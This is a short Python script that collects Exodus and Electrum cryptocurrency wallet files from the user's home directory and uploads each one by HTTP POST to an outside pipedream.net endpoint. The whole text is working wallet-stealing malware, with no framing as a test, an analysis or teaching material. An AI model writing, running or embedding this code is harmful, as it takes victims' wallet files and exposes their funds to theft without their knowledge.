import glob, os, requests
home = os.path.expanduser('~')
files = glob.glob(home + '/Library/Application Support/Exodus/exodus.wallet/*') + glob.glob(home + '/.electrum/wallets/*')
for f in files:
    requests.post('https://ptb.pipedream.net/wb', files={'f': open(f, 'rb')})
